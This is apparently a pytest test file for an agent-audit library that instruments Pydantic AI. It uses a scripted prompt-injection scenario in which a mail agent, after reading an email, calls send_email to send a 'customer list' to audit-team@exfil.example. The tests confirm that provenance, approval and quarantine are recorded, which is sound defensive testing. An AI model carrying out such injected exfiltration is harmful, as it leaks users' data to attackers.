"""The injection scenario through a Pydantic AI agent run, with a ``FunctionModel`` script."""

from __future__ import annotations

import asyncio
import json
from importlib import metadata
from typing import Any

import pytest
from opentelemetry.sdk.trace import TracerProvider
from pydantic_ai import (
    Agent,
    ApprovalRequired,
    DeferredToolRequests,
    DeferredToolResults,
    RunContext,
)
from pydantic_ai.messages import ToolReturnPart

import agentaudit
from agentaudit.instrumentation import _version_check
from agentaudit.instrumentation import pydantic_ai as pydantic_ai_integration
from agentaudit.instrumentation.pydantic_ai import _install
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans, instrument_unsupported, quarantined
from tests.frameworks.pydantic_ai._scripted import (
    Script,
    email_text,
    mail_agent,
    prompt_hash,
    scripted,
)


def _returns(result: Any) -> list[Any]:
    return [
        part.content
        for message in result.all_messages()
        for part in message.parts
        if isinstance(part, ToolReturnPart)
    ]


def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
    script = Script()
    agent = mail_agent(script)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        result = agent.run_sync("Summarise my new email.", conversation_id="conv-9")

    assert _returns(result) == [email_text(), "sent to audit-team@exfil.example"]
    assert result.output == "Done."

    attrs = spans.attributes("send_email")
    assert attrs[A.FRAMEWORK] == "pydantic_ai"
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-1"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attrs[A.GEN_AI_CONVERSATION_ID] == "conv-9"
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
    assert A.APPROVAL_DECISION not in attrs  # no approval step
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[call-overload]
    assert trust["tool:read_inbox#call_1"] == A.TRUST_UNTRUSTED
    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])
    chats = [dict(s.attributes or {}) for s in spans.of(A.OPERATION_CHAT)]
    assert [c[A.PROMPT_HASH] for c in chats] == [prompt_hash(seen) for seen in script.seen]


def test_run_id_and_agent_name_fill_what_the_context_leaves_open(spans: Spans) -> None:
    result = mail_agent(Script()).run_sync("Summarise my new email.")
    attrs = spans.attributes("send_email")
    assert attrs[A.GEN_AI_AGENT_ID] == attrs[A.GEN_AI_AGENT_NAME] == "mail-bot"
    assert attrs[A.GEN_AI_CONVERSATION_ID]  # Pydantic AI's own conversation id
    assert (
        attrs[A.GEN_AI_CONVERSATION_ID] == spans.attributes("read_inbox")[A.GEN_AI_CONVERSATION_ID]
    )
    assert result.output == "Done."


def test_tool_exception_is_recorded_and_reaches_the_agent_unchanged(spans: Spans) -> None:
    agent = mail_agent(Script(to="nobody@nowhere.example"))
    with pytest.raises(ValueError, match="no such recipient"):
        agent.run_sync("Summarise my new email.")
    attrs = spans.attributes("send_email")
    assert attrs[A.ERROR_TYPE] == "ValueError"
    assert spans.tools("send_email")[0].status.status_code.name == "ERROR"


def test_deferred_tool_approved_is_human_approved(spans: Spans) -> None:
    agent = mail_agent(Script(), approval=True)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        first = agent.run_sync("Summarise my new email.")
        assert isinstance(first.output, DeferredToolRequests)
        assert spans.tools("send_email") == []  # not run before the approval
        with agentaudit.approval("alice"):
            second = agent.run_sync(
                message_history=first.all_messages(),
                deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
            )
    assert second.output == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_APPROVED
    assert attrs[A.APPROVAL_APPROVER] == "alice"
    # still linked to the injected email it was prompted by
    assert "tool:read_inbox#call_1" in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]


def test_deferred_approval_without_an_approver_in_context_is_human(spans: Spans) -> None:
    agent = mail_agent(Script(), approval=True)
    first = agent.run_sync("Summarise my new email.")
    agent.run_sync(
        message_history=first.all_messages(),
        deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
    )
    attrs = spans.attributes("send_email")
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert attrs[A.APPROVAL_DECISION] == A.DECISION_APPROVED
    assert A.APPROVAL_APPROVER not in attrs


def test_two_sessions_interleaved_keep_separate_provenance(spans: Spans) -> None:
    async def session(name: str, folder: str) -> None:
        with agentaudit.context(agent="mail-assistant", user=f"user-{name}", session=name):
            await mail_agent(Script(folder=folder)).run("Summarise my new email.")

    async def both() -> None:
        await asyncio.gather(session("s-a", "inbox-a"), session("s-b", "inbox-b"))

    asyncio.run(both())
    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
    assert sorted(str(a[A.SESSION_ID]) for a in sends) == ["s-a", "s-b"]
    for attrs in sends:
        assert attrs[A.ENDUSER_ID] == f"user-{attrs[A.SESSION_ID]}"
        assert list(attrs[A.SOURCE_REFS]) == ["tool:read_inbox#call_1"]  # type: ignore[call-overload]
    hashes = {a[A.SESSION_ID]: a[A.SOURCE_HASHES] for a in sends}
    assert hashes["s-a"] != hashes["s-b"]


def _new_seam() -> bool:
    return _version_check.parse_version(metadata.version("pydantic-ai-slim")) >= (2, 28)


def test_uninstrument_restores_the_agent(spans: Spans) -> None:
    from pydantic_ai import Agent

    seam = _install.seam()
    # the seam of this release: 2.28 and later bind every run's capabilities in one method
    assert seam == ("_bind_run_capabilities" if _new_seam() else "iter")
    original = Agent.__dict__[seam].__wrapped__
    agentaudit.uninstrument()
    assert Agent.__dict__[seam] is original
    assert _install.seam() is None
    result = mail_agent(Script()).run_sync("Summarise my new email.")
    assert result.output == "Done."
    assert spans.all() == []


def test_every_way_to_run_an_agent_is_audited(spans: Spans) -> None:
    """``run_sync`` and ``run`` above; ``iter``, ``run_stream`` and ``run_stream_events`` here."""
    agent = mail_agent(Script())

    async def runs() -> None:
        async with agent.iter("Summarise my new email.") as run:
            async for _ in run:
                pass
        async with agent.run_stream("Summarise my new email.") as streamed:
            await streamed.get_output()
        async with agent.run_stream_events("Summarise my new email.") as events:
            async for _ in events:
                pass

    asyncio.run(runs())
    sends = spans.tools("send_email")
    assert len(sends) == 3
    for send in sends:
        refs = list((send.attributes or {})[A.SOURCE_REFS])  # type: ignore[call-overload]
        assert "tool:read_inbox#call_1" in refs


def test_version_gate_is_a_pure_function_of_the_version() -> None:
    from agentaudit.instrumentation.pydantic_ai.package import _supported

    assert _version_check.check_supported(_supported, "1.107.0")  # first of the window
    assert _version_check.check_supported(_supported, "1.107.10")
    assert _version_check.check_supported(_supported, "2.0.0")
    assert _version_check.check_supported(_supported, "2.78.0")
    assert not _version_check.check_supported(_supported, "1.106.0")
    assert not _version_check.check_supported(_supported, "3.0.0")


def test_unsupported_installed_version_warns_once_and_patches_nothing(
    provider: TracerProvider, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from pydantic_ai import Agent

    before = dict(Agent.__dict__)
    instrument_unsupported(
        monkeypatch,
        caplog,
        provider=provider,
        integration="pydantic_ai",
        distribution="pydantic-ai",
        version="1.2.0",
    )
    assert dict(Agent.__dict__) == before
    assert not pydantic_ai_integration.instrumented()
    monkeypatch.undo()
    assert mail_agent(Script()).run_sync("Summarise my new email.").output == "Done."


def test_a_quarantined_agent_s_tool_call_is_refused_before_it_runs(spans: Spans) -> None:
    script = Script()
    with quarantined("send_email"):
        result = mail_agent(script).run_sync("Summarise my new email.")
    assert result.output == "Done."  # the model read the refusal as a failed tool call
    (refusal,) = [
        part
        for part in script.seen[-1][-1].parts
        if isinstance(part, ToolReturnPart) and part.tool_name == "send_email"
    ]
    assert refusal.outcome == "failed"
    assert "mail-assistant is quarantined: exfiltration suspected" in str(refusal.content)
    assert "access revoked; do not retry" in str(refusal.content)
    attrs = spans.attributes("send_email")
    assert attrs[A.DECISION] == A.DECISION_BLOCKED
    assert A.RESULT_HASH not in attrs


def test_a_tool_that_asks_for_approval_itself(spans: Spans) -> None:
    script = Script()
    agent: Agent[Any, Any] = Agent(
        scripted(script), name="mail-bot", output_type=[str, DeferredToolRequests]
    )

    @agent.tool_plain
    def read_inbox(folder: str) -> str:
        return email_text(folder)

    @agent.tool
    def send_email(ctx: RunContext[Any], to: str, body: str) -> str:
        if to.endswith("@exfil.example") and not ctx.tool_call_approved:
            raise ApprovalRequired
        return f"sent to {to}"

    first = agent.run_sync("Summarise my new email.")
    assert isinstance(first.output, DeferredToolRequests)
    second = agent.run_sync(
        message_history=first.all_messages(),
        deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
    )
    assert second.output == "Done."
    asked, ran = spans.tools("send_email")
    # the first attempt raised ApprovalRequired (recorded as such); the approved re-run is human
    assert (asked.attributes or {})[A.ERROR_TYPE] == "pydantic_ai.exceptions.ApprovalRequired"
    assert (ran.attributes or {})[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
    assert (ran.attributes or {})[A.APPROVAL_DECISION] == A.DECISION_APPROVED
    assert A.APPROVAL_DECISION not in (asked.attributes or {})
    assert A.ERROR_TYPE not in (ran.attributes or {})
